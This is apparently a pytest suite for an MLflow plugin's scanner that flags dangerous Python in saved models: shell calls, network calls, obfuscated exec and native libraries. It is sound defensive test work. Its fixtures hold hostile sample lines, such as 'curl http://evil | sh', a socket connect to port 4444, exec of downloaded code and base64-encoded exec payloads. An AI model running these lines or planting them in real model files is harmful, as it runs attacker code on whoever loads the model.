"""Static analysis of model Python code: real files scanned through the public scan()."""

from __future__ import annotations

import textwrap

import pytest

from mlflow_plugin.scanner import pycode
from mlflow_plugin.scanner.api import scan
from mlflow_plugin.scanner.context import Policy
from mlflow_plugin.scanner.report import ScanReport, Severity


def code_findings(report: ScanReport) -> list:
    return [f for f in report.findings if f.rule.startswith("code.")]


def scan_src(tmp_path, src: str, name: str = "model.py", policy: Policy | None = None) -> ScanReport:
    p = tmp_path / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(textwrap.dedent(src))
    return scan(str(p), policy=policy)


def one(report: ScanReport, rule: str, line: int | None = None):
    hits = [f for f in report.findings if f.rule == rule and (line is None or f":{line}:" in f.message)]
    assert hits, [(f.rule, f.message) for f in report.findings]
    return hits[0]


def test_py_files_are_detected_as_python(tmp_path):
    r = scan_src(tmp_path, "import numpy as np\n", "code/mod.py")
    assert [f.format for f in r.files] == ["python"]
    r = scan_src(tmp_path, "x = 1\n", "gui.pyw")
    assert [f.format for f in r.files] == ["python"]


@pytest.mark.parametrize(
    ("src", "rule", "shown"),
    [
        ("import os\nos.system('curl evil | sh')\n", "code.shell", "os.system"),
        ("import os as o\no.popen('id')\n", "code.shell", "os.popen"),
        ("from subprocess import run as r\nr(['ls'])\n", "code.shell", "subprocess.run"),
        ("import subprocess\nsubprocess.Popen('x', shell=True)\n", "code.shell", "subprocess.Popen"),
        ("from os import *\nsystem('id')\n", "code.shell", "os.system"),
        ("import os\ns = os.system\ns('id')\n", "code.shell", "os.system"),
        ("import os\ngetattr(os, 'system')('id')\n", "code.shell", "os.system"),
        ("__import__('os').system('id')\n", "code.shell", "os.system"),
        (
            "import importlib\nimportlib.import_module('subprocess').call('x')\n",
            "code.shell",
            "subprocess.call",
        ),
        ("import os\nos.execv('/bin/sh', ['sh'])\n", "code.shell", "os.execv"),
        ("import socket\nsocket.socket().connect(('evil', 4444))\n", "code.network", "socket.socket"),
        ("import requests\nrequests.get('http://evil')\n", "code.network", "requests.get"),
        ("from urllib.request import urlopen\nurlopen('http://evil')\n", "code.network", "urlopen"),
        ("x = 1\nexec(compile(x, 'f', 'exec'))\n", "code.dynamic-code", "exec"),
        ("exec('import os; os.system(\"id\")')\n", "code.shell", "os.system"),
        ("eval(input())\n", "code.dynamic-code", "eval"),
        ("import builtins\nbuiltins.exec(open('x').read())\n", "code.dynamic-code", "builtins.exec"),
        ("import ctypes\nctypes.CDLL('libc.so.6')\n", "code.native", "ctypes.CDLL"),
        ("from cffi import FFI\nFFI()\n", "code.native", "cffi.FFI"),
        ("import posix\nposix.system('id')\n", "code.shell", "posix.system"),
        (
            "import importlib.util as u\ns = u.spec_from_file_location('m', '/tmp/m.py')\n"
            "s.loader.exec_module(u.module_from_spec(s))\n",
            "code.dynamic-code",
            "exec_module",
        ),
        ("import imp\nimp.load_source('m', '/tmp/m.py')\n", "code.dynamic-code", "imp.load_source"),
        ("import torch\ntorch.hub.load('someone/repo', 'model')\n", "code.remote-code", "torch.hub.load"),
        (
            "from transformers import AutoModel as A\nA.from_pretrained('x/y', trust_remote_code=True)\n",
            "code.remote-code",
            "transformers.AutoModel.from_pretrained",
        ),
    ],
)
def test_import_time_dangerous_calls_are_critical(tmp_path, src, rule, shown):
    r = scan_src(tmp_path, src)
    f = one(r, rule)
    assert f.severity == Severity.CRITICAL
    assert shown in f.message and "when MLflow imports this module (load_model)" in f.message
    assert "model.py:" in f.message and "fix:" in f.message


def test_class_body_decorator_and_default_argument_run_at_import(tmp_path):
    r = scan_src(
        tmp_path,
        """\
        import os
        import subprocess

        class Model:
            os.system("in class body")

        def deco(f):
            return f

        @deco(subprocess.check_output("id"))
        def g(x=os.popen("ls")):
            return x
        """,
    )
    lines = {f.message.split(":")[1]: f for f in code_findings(r)}
    assert set(lines) == {"5", "10", "11"}
    assert all(f.severity == Severity.CRITICAL for f in lines.values())


def test_calls_inside_functions_use_the_policy_severity_and_name_the_method(tmp_path):
    src = """\
        import subprocess
        import mlflow

        class M(mlflow.pyfunc.PythonModel):
            def load_context(self, context):
                subprocess.run(["nvidia-smi"])

            def predict(self, context, model_input):
                import requests
                requests.post("http://collector", json=model_input)
                return model_input
        """
    r = scan_src(tmp_path, src)
    shell = one(r, "code.shell", 6)
    net = one(r, "code.network", 10)
    assert shell.severity == net.severity == Severity.MEDIUM
    assert "load_context()" in shell.message and "when the model is loaded" in shell.message
    assert "predict()" in net.message and "on every prediction" in net.message
    r = scan_src(tmp_path, src, policy=Policy(code_in_functions="high"))
    assert {f.severity for f in code_findings(r)} == {Severity.HIGH}
    r = scan_src(tmp_path, src, policy=Policy(code_in_functions="low"))
    assert {f.severity for f in code_findings(r)} == {Severity.LOW}


def test_main_guard_is_not_import_time(tmp_path):
    r = scan_src(tmp_path, "import os\nif __name__ == '__main__':\n    os.system('train')\n")
    f = one(r, "code.shell")
    assert f.severity == Severity.MEDIUM and "run as a script" in f.message


@pytest.mark.parametrize(
    "src",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "from base64 import b64decode as d\nexec(d('cHJpbnQoMSk='))\n",
        "import zlib\npayload = zlib.decompress(b'x')\ncode = payload.decode()\nexec(code)\n",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
        "exec(bytes.fromhex('7072696e74283129'))\n",
        "import marshal\nexec(marshal.loads(b'...'))\n",
        "import binascii\neval(compile(binascii.unhexlify('31'), 'x', 'eval'))\n",
        "import urllib.request\nexec(urllib.request.urlopen('http://evil/p.py').read())\n",
        "import requests\nexec(requests.get('http://evil/p.py').text)\n",
        "def later():\n    import base64\n    exec(base64.b64decode('cHJpbnQoMSk='))\n",
    ],
)
def test_obfuscated_exec_is_critical_anywhere(tmp_path, src):
    r = scan_src(tmp_path, src)
    f = one(r, "code.obfuscated-exec")
    assert f.severity == Severity.CRITICAL


def test_exec_of_a_literal_is_analysed_as_written(tmp_path):
    r = scan_src(tmp_path, "import numpy\n\nexec('from numpy import *')\n")
    assert [(f.severity, f.rule) for f in code_findings(r)] == [(Severity.LOW, "code.dynamic-code")]
    r = scan_src(tmp_path, "\n\nexec('import subprocess as s\\ns.run([1])')\n")
    f = one(r, "code.shell")
    assert f.severity == Severity.CRITICAL and "model.py:4:" in f.message and "subprocess.run" in f.message


def test_dynamic_import_with_computed_name_is_high(tmp_path):
    r = scan_src(
        tmp_path,
        """\
        import importlib
        name = "o" + "s"
        mod = importlib.import_module(name)
        m2 = __import__(name)
        ok = importlib.import_module("numpy")
        """,
    )
    hits = [f for f in r.findings if f.rule == "code.dynamic-import"]
    assert len(hits) == 2 and {f.severity for f in hits} == {Severity.HIGH}


def test_computed_attribute_of_os_is_high(tmp_path):
    r = scan_src(tmp_path, "import os\ngetattr(os, 'sys' + 'tem')('id')\n")
    assert one(r, "code.dynamic-attribute").severity == Severity.HIGH


def test_deserialisation_calls(tmp_path):
    r = scan_src(
        tmp_path,
        """\
        import pickle, marshal, torch

        def load(blob, path):
            a = pickle.loads(blob)
            b = marshal.loads(blob)
            c = torch.load(path, weights_only=False)
            d = torch.load(path, weights_only=True)
            e = torch.load(path)
            return a, b, c, d, e
        """,
    )
    hits = [f for f in r.findings if f.rule == "code.deserialize"]
    assert sorted(int(f.message.split(":")[1]) for f in hits) == [4, 5, 6]
    assert {f.severity for f in hits} == {Severity.MEDIUM}


def test_ctypes_in_a_function_is_high(tmp_path):
    r = scan_src(tmp_path, "import ctypes\ndef f():\n    return ctypes.cdll.LoadLibrary('x.so')\n")
    assert one(r, "code.native").severity == Severity.HIGH


def test_benign_model_code_gives_no_finding(tmp_path):
    r = scan_src(
        tmp_path,
        """\
        import json
        import os
        import pickle

        import joblib
        import mlflow
        import numpy as np
        import pandas as pd
        import torch
        from sklearn.linear_model import LogisticRegression
        from sklearn.preprocessing import StandardScaler


        class Net(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.fc = torch.nn.Linear(4, 2)

            def forward(self, x):
                return torch.relu(self.fc(x))


        class Model(mlflow.pyfunc.PythonModel):
            def load_context(self, context):
                self.clf = joblib.load(context.artifacts["clf"])
                with open(context.artifacts["vocab"], "rb") as f:
                    self.vocab = pickle.load(f)
                with open(os.path.join(os.path.dirname(__file__), "cfg.json")) as f:
                    self.cfg = json.load(f)
                self.net = Net()
                self.net.load_state_dict(torch.load(context.artifacts["w"], weights_only=True))
                self.net.eval()
                self.scaler = StandardScaler()

            def predict(self, context, model_input: pd.DataFrame):
                x = np.asarray(model_input, dtype=np.float32)
                with torch.no_grad():
                    y = self.net(torch.from_numpy(x)).numpy()
                return pd.DataFrame({"p": y[:, 1], "lr": LogisticRegression().fit(x, y.argmax(1)).predict(x)})


        mlflow.models.set_model(Model())
        """,
    )
    assert r.findings == []


def test_local_function_named_eval_is_not_the_builtin(tmp_path):
    r = scan_src(tmp_path, "def eval(x):\n    return x\n\nscore = eval(3)\nmodel_eval = 1\n")
    assert code_findings(r) == []


def test_python2_code_is_low_unparsable_and_still_analysed(tmp_path):
    r = scan_src(
        tmp_path,
        """\
        import os
        import subprocess as sp
        print "loading"
        os.system("id")
        exec "x = 1"
        exec base64.b64decode("cHJpbnQgMQ==")
        def f():
            sp.call("ls")
        """,
    )
    assert one(r, "code.unparsable").severity == Severity.LOW
    assert one(r, "code.shell", 4).severity == Severity.CRITICAL
    assert one(r, "code.obfuscated-exec", 6).severity == Severity.CRITICAL
    inner = one(r, "code.shell", 8)
    assert inner.severity == Severity.MEDIUM and "subprocess.call" in inner.message


def test_broken_code_is_a_finding_not_a_crash(tmp_path):
    p = tmp_path / "broken.py"
    p.write_bytes(b"def f(:\n    \xff\xfe pass\n")
    r = scan(str(p))
    assert one(r, "code.unparsable").severity == Severity.LOW
    assert not [f for f in r.findings if f.rule == "scan.malformed"]


def test_huge_file_is_not_parsed(tmp_path, monkeypatch):
    monkeypatch.setattr(pycode, "MAX_PYTHON", 1 << 10)
    r = scan_src(tmp_path, "import os\n" + "x = 1\n" * 400 + "os.system('id')\n")
    assert one(r, "code.too-large").severity == Severity.MEDIUM
    assert not [f for f in r.findings if f.rule == "code.shell"]


def test_huge_default_limit(tmp_path):
    p = tmp_path / "gen.py"
    p.write_bytes(b"x = 1\n" * ((pycode.MAX_PYTHON // 6) + 10))
    r = scan(str(p))
    assert [f.rule for f in r.findings if f.rule.startswith("code.")] == ["code.too-large"]


def test_deeply_nested_code_is_a_finding_not_a_crash(tmp_path):
    r = scan_src(tmp_path, "import os\nos.system('id')\nx = " + "a." * 5000 + "b\n")
    assert one(r, "code.too-complex").severity == Severity.MEDIUM
    assert not [f for f in r.findings if f.rule == "scan.malformed"]


def test_code_in_functions_comes_from_the_admin_config(tmp_path):
    from mlflow_plugin.config import load_config

    assert load_config({}).code_in_functions == "medium"
    cfg = load_config({"MLFLOW_MODELKIT_CODE_IN_FUNCTIONS": "High"})
    assert cfg.code_in_functions == "high" and Policy().code_in_functions == "medium"
    toml = tmp_path / "modelkit.toml"
    toml.write_text('[scan]\ncode_in_functions = "critical"\n')
    assert load_config({"MLFLOW_MODELKIT_CONFIG": str(toml)}).code_in_functions == "critical"


def test_secrets_in_python_files_are_still_found(tmp_path):
    r = scan_src(tmp_path, "AWS_KEY = 'AKIA" + "Q" * 16 + "'\nimport numpy\n")
    assert one(r, "secret.aws-access-key-id")


def test_many_findings_are_capped(tmp_path):
    r = scan_src(tmp_path, "import os\n" + "os.system('x')\n" * (pycode.MAX_FINDINGS + 5))
    assert len([f for f in r.findings if f.rule == "code.shell"]) == pycode.MAX_FINDINGS
    assert one(r, "code.more-findings").severity == Severity.INFO


# --- real MLflow model directories --------------------------------------------------------------

BENIGN_MODEL = """\
import mlflow
import pandas as pd


class M(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input):
        return pd.DataFrame({"y": [1] * len(model_input)})


mlflow.models.set_model(M())
"""
BENIGN_HELPER = "import numpy as np\n\n\ndef scale(x):\n    return np.asarray(x) * 2\n"


def _save(tmp_path, name: str, code_paths: list[str] | None = None):
    mlflow = pytest.importorskip("mlflow")
    src = tmp_path / "src"
    src.mkdir(exist_ok=True)
    (src / "model.py").write_text(BENIGN_MODEL)
    (src / "helper.py").write_text(BENIGN_HELPER)
    out = tmp_path / name
    mlflow.pyfunc.save_model(
        str(out),
        python_model=str(src / "model.py"),
        code_paths=[str(src / p) for p in code_paths or []],
    )
    return out


def serious(report: ScanReport) -> list:
    return [(f.path, f.rule, f.message) for f in report.findings if f.severity >= Severity.HIGH]


def test_models_from_code_with_malicious_model_py(tmp_path):
    out = _save(tmp_path, "benign")
    assert (out / "model.py").is_file()
    assert serious(scan(str(out))) == []
    # the attacker edits the saved model.py: it runs at load_model, before any predict
    (out / "model.py").write_text("import os\n" + BENIGN_MODEL + "os.system('curl http://evil | sh')\n")
    r = scan(str(out))
    f = one(r, "code.shell")
    assert f.path == "model.py" and f.severity == Severity.CRITICAL
    assert "load_model" in f.message


def test_code_paths_module_with_import_time_os_system(tmp_path):
    out = _save(tmp_path, "withcode", code_paths=["helper.py"])
    helper = out / "code" / "helper.py"
    assert helper.is_file()
    assert serious(scan(str(out))) == []
    helper.write_text("import os\nos.system('id')\n" + BENIGN_HELPER)
    r = scan(str(out))
    f = one(r, "code.shell")
    assert f.path == "code/helper.py" and f.severity == Severity.CRITICAL
    helper.write_text(
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n" + BENIGN_HELPER
    )
    r = scan(str(out))
    assert one(r, "code.obfuscated-exec").path == "code/helper.py"


def test_python_inside_an_archive_is_analysed(tmp_path):
    import zipfile

    p = tmp_path / "model.zip"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("model/code/helper.py", "import os\nos.system('id')\n")
        z.writestr("model/requirements.txt", "torchh==2.0\n")
    r = scan(str(p))
    shell = one(r, "code.shell")
    assert shell.path.endswith("!model/code/helper.py") and shell.severity == Severity.CRITICAL
    assert one(r, "env.typosquat").path.endswith("!model/requirements.txt")


def test_torch_custom_operator_library_is_native_code(tmp_path):
    """TorchScript archives carry code (``code/__torch__.py``); a function loading a native library
    there is high even if nothing calls it yet (``torch.ops.load_library`` runs arbitrary native code)."""
    from mlflow_plugin.scanner.api import scan_file

    f = tmp_path / "__torch__.py"
    f.write_text(
        "class TinyNet(Module):\n"
        "  def forward(self, x: Tensor) -> Tensor:\n"
        "    return torch.relu(x)\n\n"
        "def _hook(x):\n"
        "  torch.ops.load_library('/tmp/libevil.so')\n"
        "  return x\n"
    )
    r = scan_file(str(f))
    hits = [x for x in r.findings if x.rule == "code.native"]
    assert hits and hits[0].severity >= Severity.HIGH and "torch.ops.load_library" in hits[0].message
    f.write_text("class TinyNet(Module):\n  def forward(self, x):\n    return torch.relu(x)\n")
    assert scan_file(str(f)).findings == []
